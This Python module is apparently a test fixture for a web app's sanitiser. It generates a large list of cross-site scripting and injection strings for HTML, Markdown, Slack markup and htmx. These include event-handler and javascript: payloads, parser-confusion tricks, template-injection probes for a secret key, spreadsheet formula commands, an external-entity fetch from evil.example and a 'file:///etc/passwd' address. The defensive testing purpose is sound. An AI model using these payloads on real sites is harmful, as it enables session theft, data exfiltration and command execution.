"""Texts that people could store to have something run, load or break out on the pages of others.

Each way in is written once for each way to act: elements and their events, addresses, ends of
attributes and of the elements around, other namespaces, what a parser repairs, encodings, Markdown,
Slack's markup, htmx, and what only wants to be too large. The ideas are those that OWASP's and
PortSwigger's cheat sheets, html5sec.org and the tests of sanitisers collect; the texts are ours.

``hacked()`` is what a page of the tests notices; EVIL is a host that nothing may ask.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from html import escape
from urllib.parse import quote

EVIL = "https://evil.example"
RUN = "hacked()"
_CODE = base64.b64encode(RUN.encode()).decode()
_PAGE = base64.b64encode(f"<script>parent.{RUN}</script>".encode()).decode()


def _elements() -> Iterator[str]:
    yield f"<script>{RUN}</script>"
    yield f"<SCRIPT>{RUN}</SCRIPT>"
    yield f"<script >{RUN}</script\n>"
    yield f"<script/x>{RUN}</script/x>"
    yield f"<script src={EVIL}/x.js></script>"
    yield "<script src=//evil.example/x.js></script>"
    yield f"<script type=module>import '{EVIL}/x.mjs'</script>"
    yield f'<script type=importmap>{{"imports":{{"x":"{EVIL}/x.js"}}}}</script>'
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<script>{RUN}//"
    yield f"<script>/*</script><script>*/{RUN}</script>"
    yield f'<iframe src="javascript:parent.{RUN}"></iframe>'
    yield f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>'
    yield f"<iframe src={EVIL}></iframe>"
    yield f"<iframe src=data:text/html;base64,{_PAGE}></iframe>"
    yield f'<object data="javascript:{RUN}"></object>'
    yield f"<object data={EVIL}/x.swf></object>"
    yield f"<embed src=data:text/html;base64,{_PAGE}>"
    yield f"<embed src={EVIL}/x>"
    yield f"<link rel=stylesheet href={EVIL}/x.css>"
    yield f"<link rel=preload as=image href={EVIL}/x.gif>"
    yield f"<link rel=dns-prefetch href={EVIL}>"
    yield f"<style>@import '{EVIL}/x.css';</style>"
    yield f"<style>body{{background:url({EVIL}/x.gif)}}</style>"
    yield "<style>*{display:none!important}</style>"
    yield f"<base href={EVIL}/>"
    yield f'<meta http-equiv=refresh content="0;url={EVIL}">'
    yield f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">'
    yield "<meta name=referrer content=unsafe-url>"
    yield f"<form action={EVIL}><button>Sign in again</button></form>"
    yield f'<form><button formaction="javascript:{RUN}">Save</button></form>'
    yield f"<input type=image src={EVIL}/x.gif>"
    yield f"<isindex action=javascript:{RUN} type=image>"
    yield f"<button form=logout formaction={EVIL}>x</button>"
    yield f"<applet code={EVIL}/x.class></applet>"
    yield f"<portal src={EVIL}></portal>"
    yield f"<frameset><frame src=javascript:parent.{RUN}></frameset>"
    yield f"<table background={EVIL}/x.gif><td>x</table>"
    yield f"<video poster={EVIL}/x.jpg></video>"
    yield f"<audio src={EVIL}/x.mp3 autoplay></audio>"
    yield f"<picture><source srcset={EVIL}/x.webp><img></picture>"
    yield f'<img srcset="{EVIL}/x.gif 1x">'
    yield f"<img lowsrc={EVIL}/x.gif>"
    yield f"<bgsound src={EVIL}/x.wav>"
    yield f"<body background={EVIL}/x.gif>"
    yield "<plaintext>"
    yield "<xmp><p>"
    yield '<noscript><p title="</noscript><img src=x onerror=hacked()>">'
    yield "<template><img src=x onerror=hacked()></template>"
    yield "<dialog open>Your session has ended</dialog>"


#: Events that need nobody, and the elements on which they happen.
_BY_ITSELF = {
    "onerror": (
        *("img src=x", "video src=x", "audio src=x", "image src=x", "script src=x"),
        "svg><image href=x",
    ),
    "onload": (
        *("body", "svg", "iframe", "style", "img src=/static/response/icon.svg"),
        "link rel=stylesheet href=/x",
    ),
    "onfocus": (
        *("input autofocus", "a tabindex=1 autofocus", "select autofocus", "textarea autofocus"),
        "div contenteditable autofocus",
    ),
    "onblur": ("input autofocus><input autofocus",),
    "ontoggle": ("details open", "div popover"),
    "onstart": ("marquee",),
    "onbegin": ("svg><animate attributeName=x dur=1s", "svg><set attributeName=x to=y"),
    "onanimationstart": ("p style=animation-name:x",),
    "ontransitionend": ("p style=transition:all",),
    "onpageshow": ("body",),
    "onhashchange": ("body",),
    "onresize": ("body",),
    "onscroll": ("body><br><input autofocus",),
    "onloadstart": ("video><source src=x", "img src=x"),
    "oncanplay": ("audio src=x",),
    "onslotchange": ("slot",),
    "onunhandledrejection": ("body",),
    "onmouseover": ("p", "b", "a href=#", "svg width=999 height=999"),
    "onpointerenter": ("p style=position:fixed;inset:0",),
    "onclick": ("a href=#", "label for=edit-title"),
    "oncontentvisibilityautostatechange": ("p style=content-visibility:auto",),
}


def _events() -> Iterator[str]:
    for event, elements in _BY_ITSELF.items():
        for element in elements:
            yield f"<{element} {event}={RUN}>"
    yield from (
        "<img src=x oNeRrOr=hacked()>",
        "<img/src=x/onerror=hacked()>",
        "<img\tsrc=x\tonerror=hacked()>",
        "<img\x0csrc=x\x0conerror=hacked()>",
        "<img src=x onerror\n=\nhacked()>",
        "<img src=x onerror='hacked()'",
        '<img src=x onerror="hacked()"//',
        "<img src=x onerror=`hacked()`>",
        "<img src='x'onerror='hacked()'>",
        "<img src=x onerror=&#104;acked()>",
        f"<img src=x onerror=eval(atob('{_CODE}'))>",
        "<img src=x onerror=window['hack'+'ed']()>",
        "<img src=x onerror=Function('hacked()')()>",
        "<img src=x onerror=setTimeout`hacked\\x28\\x29`>",
        "<<img src=x onerror=hacked()>",
        "<img <!-- --> src=x onerror=hacked()>",
        "<img \x00src=x onerror=hacked()>",
        "<\x00img src=x onerror=hacked()>",
        "＜img src=x onerror=hacked()＞",
        "\u2039img src=x onerror=hacked()\u203a",
        "%3Cimg src=x onerror=hacked()%3E",
        "&lt;img src=x onerror=hacked()&gt;",
        "&amp;lt;img src=x onerror=hacked()&amp;gt;",
        "&#60;img src=x onerror=hacked()&#62;",
        "&#x3c;img src=x onerror=hacked()&#x3e;",
        "\\u003cimg src=x onerror=hacked()\\u003e",
        "\\x3cimg src=x onerror=hacked()\\x3e",
        "+ADw-img src=x onerror=hacked()+AD4-",
    )


#: Ends of what a text may stand in, and what follows it.
_AROUND = (
    *('">', "'>", "`>", '" ', "' ", "-->", "]]>", "*/", "</title>", "</textarea>", "</style>"),
    *("</script>", "</svg>", "</text>", "</p></div>", "</td></tr></table>", "</bdi></li></ul>"),
    *("</a></th>", "</main></body>", "}}", "%}", "\\\"'>", "</noscript>", "</option></select>"),
)


def _ends() -> Iterator[str]:
    for end in _AROUND:
        yield f"{end}<img src=x onerror={RUN}>"
    for attribute in ("onmouseover", "onfocus", "style", "href", "hx-get", "srcset", "formaction"):
        yield f'" {attribute}="javascript:{RUN}" x="'
        yield f"' autofocus {attribute}='{RUN}' x='"
    yield f'" onfocus={RUN} autofocus tabindex=1 x="'
    yield f"{{{{ constructor.constructor('{RUN}')() }}}}"
    yield "{{ 7*7 }}${7*7}<%= 7*7 %>#{7*7}"
    yield "{% load static %}{% include 'admin/base.html' %}"
    yield "{% debug %}{{ request.META }}{{ settings.SECRET_KEY }}"
    yield f"${{{RUN}}}"
    yield f"';{RUN};'"
    yield f'";{RUN};"'
    yield f"</script><script>{RUN}</script>"
    yield f"\u2028{RUN}\u2029"
    yield '=HYPERLINK("https://evil.example","x")'
    yield "+cmd|'/C calc'!A0"
    yield "@SUM(1+1)*cmd|'/C calc'!A0"


#: Addresses that do something else than lead somewhere.
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A&#x61vascript:{RUN}",
    f"javascript:{quote(RUN)}",
    f"javascript://evil.example/%0a{RUN}",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,{_PAGE}",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"blob:{EVIL}/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example",
    f"view-source:{EVIL}",
    f"feed:javascript:{RUN}",
    f"jar:{EVIL}!/x",
)


def _in_markdown() -> Iterator[str]:
    for address in _ADDRESSES:
        yield f"[click]({address})"
        yield f"![picture]({address})"
        yield f"<{address}>"
    for address in _ADDRESSES[:6]:
        yield f"[click][1]\n\n[1]: {address}"
        yield f"[click]( <{address}> 'title')"
        yield f'<a href="{address}">click</a>'
    yield f"![x]({EVIL}/1.gif)"
    yield f'![x]({EVIL}/1.gif "a title")'
    yield f"[![x]({EVIL}/1.gif)]({EVIL})"
    yield f"![x][i]\n\n[i]: {EVIL}/1.gif"
    yield f'![" onerror="{RUN}]({EVIL}/1.gif)'
    yield f'![x](/x" onerror="{RUN})'
    yield f"![x](/x 'y\" onerror=\"{RUN}')"
    yield f'[x](/y "z\\" onmouseover=\\"{RUN}")'
    yield f'[x]("onmouseover={RUN}//)'
    yield f'[x]: /y "\\" onmouseover={RUN} \\""\n\n[x]'
    yield f"[<img src=x onerror={RUN}>](/y)"
    yield f'[a](/b "<img src=x onerror={RUN}>")'
    yield f"`<img src=x onerror={RUN}>`"
    yield f"```\n<img src=x onerror={RUN}>\n```"
    yield f"```<img src=x onerror={RUN}>\nx\n```"
    yield f'```" onmouseover="{RUN}\nx\n```'
    yield f"    <img src=x onerror={RUN}>"
    yield f"# <img src=x onerror={RUN}>"
    yield f"> <img src=x onerror={RUN}>"
    yield f"- <img src=x onerror={RUN}>"
    yield f"| a |\n| --- |\n| <img src=x onerror={RUN}> |"
    yield f"*<img src=x *onerror={RUN}>*"
    yield f"<scr**ipt>{RUN}</scr**ipt>"
    yield f"<img src=x on*error*={RUN}>"
    yield f"<!--\n<img src=x onerror={RUN}>\n-->"
    yield f"<div markdown=1>\n<img src=x onerror={RUN}>\n</div>"
    yield f'https://x.example/"onmouseover={RUN}//'
    yield f"https://x.example/<img/src=x/onerror={RUN}>"
    yield f"https://x.example/?q='><img src=x onerror={RUN}>"
    yield f"{EVIL}@x.example/ www.evil.example mailto:x@evil.example?body=<img>"
    yield f"[x](https://x.example){{: onclick={RUN} }}"
    yield f"md5-0123456789abcdef <img src=x onerror={RUN}>"
    yield "\ufdd0img src=x onerror=hacked()>\ufdd1lt;"
    yield "~~<img src=x onerror=hacked()>~~ **_<b onclick=hacked()>_**"


def _in_slack() -> Iterator[str]:
    for address in _ADDRESSES[:8]:
        yield f"<{address}|click>"
    for label in (
        f"<img src=x onerror={RUN}>",
        f'"onmouseover={RUN} x="',
        f"[x](javascript:{RUN})",
    ):
        yield f"<https://x.example|{label}>"
        yield f"<@U1ANA|{label}>"
        yield f"<#C1|{label}>"
        yield f"<!subteam^S1|{label}>"
        yield f"<!date^1700000000^{{date}}^{EVIL}|{label}>"
        yield f"<mailto:x@x.example|{label}>"
    yield f"&lt;img src=x onerror={RUN}&gt; &amp;lt;script&amp;gt;"
    yield f'<https://x.example/"onmouseover={RUN}//|x>'
    yield f"<https://x.example/<img/src=x/onerror={RUN}>>"
    yield f"<https://x.example|![x]({EVIL}/1.gif)>"
    yield f"<{EVIL}/1.gif|!>[x](/y)"
    yield "<!channel><!here><!everyone> <!subteam^S1|@all>"
    yield f"<!date^0^<img src=x onerror={RUN}>|x>"
    yield f":tada:<img src=x onerror={RUN}>:tada:"
    yield f":<img src=x onerror={RUN}>:"
    yield f"```<img src=x onerror={RUN}>``` and `<b>`"
    yield f"*<@U1ANA>* _<img src=x onerror={RUN}>_ ~x~"
    yield '<@U1ANA" onclick="hacked()>'
    yield f"<slack://x|<img src=x onerror={RUN}>> <tel:1|x>"


def _other_namespaces() -> Iterator[str]:
    image = f"<img src=x onerror={RUN}>"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><script href=data:,{RUN} />"
    yield f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>'
    yield f'<svg><use href="data:image/svg+xml,<svg id=x><image href=x onerror={RUN} /></svg>#x">'
    yield f"<svg><foreignObject>{image}</foreignObject></svg>"
    yield f"<svg><style>{image}</style></svg>"
    yield f"<svg><title>{image}</title></svg>"
    yield f"<svg><desc>{image}</desc></svg>"
    yield f"<svg><image href={EVIL}/x.gif /></svg>"
    yield f"<svg><filter><feImage href={EVIL}/x.svg /></filter></svg>"
    yield f"<svg><animate href=#x attributeName=href values=javascript:{RUN} /><a id=x><text>x</a>"
    yield f'<svg></p><style><g title="</style>{image}">'
    yield f"<math><mtext><table><mglyph><style><!--</style>{image}"
    yield f'<math><mi xlink:href="javascript:{RUN}">x</mi></math>'
    yield f"<math><annotation-xml encoding=text/html>{image}</annotation-xml></math>"
    yield f'<math href="javascript:{RUN}">x</math>'
    yield f"<form><math><mtext></form><form><mglyph><style></math>{image}"
    yield f"<noscript><style></noscript>{image}</style>"
    yield f'<select><template><style><!--</style><a rel="--></style></template></select>{image}">'
    yield f'<a title="</template>{image}"><template>'
    yield f"<p><svg><p>{image}"
    yield f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>"
    yield f'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>'
    yield f"<![CDATA[{image}]]>"
    yield f'<!DOCTYPE x [<!ENTITY y SYSTEM "{EVIL}">]>&y;'
    yield f"<?php {RUN} ?>{image}"
    yield f"<!--[if gte IE 4]>{image}<![endif]-->"
    yield f"<!-->{image}"
    yield f"<!--!>{image}--!>"
    yield f"</br style=position:fixed onmouseover={RUN}>"


def _in_our_pages() -> Iterator[str]:
    """What htmx, Bootstrap and our own script would take for theirs."""
    yield "<div hx-get=/declare/ hx-trigger=load></div>"
    yield f"<div data-hx-get={EVIL} data-hx-trigger=load></div>"
    yield f"<div hx-on:htmx:load={RUN}></div>"
    yield f"<div hx-on::after-request={RUN} hx-get=/ hx-trigger=load></div>"
    yield "<form hx-post=/incident/1/close/ hx-trigger=load></form>"
    yield f"<div hx-vals=js:{RUN} hx-get=/ hx-trigger=load></div>"
    yield f"<div hx-headers='js:{{x: {RUN}}}'></div>"
    yield "<div hx-swap-oob=true id=live>gone</div>"
    yield "<div id=toasts hx-swap-oob=innerHTML>You are signed out</div>"
    yield "<div hx-ext=preload hx-boost=true><a href=//evil.example>x</a></div>"
    yield f"<a data-toggle=tooltip data-html=true title='<img src=x onerror={RUN}>'>x</a>"
    yield f"<a data-toggle=popover data-template='<img src=x onerror={RUN}>'>x</a>"
    yield "<textarea data-preview>x</textarea>"
    yield "<input name=part value=header:x><input name=since value=0>"
    yield "<input type=hidden name=csrfmiddlewaretoken value=x>"
    yield "<a id=live></a><a id=live name=dataset></a>"
    yield "<form id=part-header><input name=innerHTML></form>"
    yield "<img name=cookie><img name=getElementById>"
    yield '<p class="response-toasts alert alert-danger" id=content>x</p>'
    yield "<div class=modal-backdrop></div><div class=sr-only>x</div>"
    yield '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>'
    yield '<p style="margin:-9999px;width:9999px">x</p>'
    yield f'<p style="background:url({EVIL}/x.gif)">x</p>'
    yield f'<p style="width:expression({RUN})">x</p>'
    yield f'<p style="behavior:url({EVIL}/x.htc)">x</p>'
    yield f'<p style="-moz-binding:url({EVIL}/x.xml#x)">x</p>'
    yield "<img src=/logout/><img src=/accounts/logout/>"
    yield "![x](/accounts/logout/) ![y](/incident/1/close/)"
    yield escape(f"<img src=x onerror={RUN}>")
    yield f"</textarea><script>{RUN}</script>"


def _too_large() -> Iterator[str]:
    yield "W" * 190
    yield "https://x.example/" + "w" * 170
    yield "\u202e" + "reversed" * 12 + "\u202d"
    yield "\u2066" * 60 + "isolated"
    yield "a" + "\u0300\u0323\u0489" * 40
    yield "\U0001f468\u200d" * 40
    yield "ﷺ" * 60 + "𒐫" * 30 + "꧅" * 30
    yield "| " + " | ".join("column" * 3 for _ in range(9)) + " |\n" + "| --- " * 9 + "|\n"
    yield "> " * 19 + "deep"
    yield "\n".join("    " * depth + "- deep" for depth in range(9))
    yield "`" + "code" * 45 + "`"
    yield "```\n" + "code" * 45 + "\n```"
    yield "# " + "Heading" * 26
    yield "**" + "bold" * 45 + "**"
    yield "\u200b" * 180
    yield "\u3000" * 150 + "x"
    yield "\t" * 150 + "x"
    yield "1" * 190 + ". x"
    yield "99999999999999999999. x"
    yield "x\n" * 90
    yield "\u00ad" * 90 + "soft" * 20
    yield "\u2062\ufeff\u180e" * 60
    yield "&nbsp;" * 30 + "x" + "\u00a0" * 100
    yield "ก็็็็็็็็็็็็็็็็็็็็" * 8


#: Every text once, in an order that stays.
TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        text
        for texts in (
            *(_elements, _events, _ends, _in_markdown, _in_slack),
            *(_other_namespaces, _in_our_pages, _too_large),
        )
        for text in texts()
    )
)
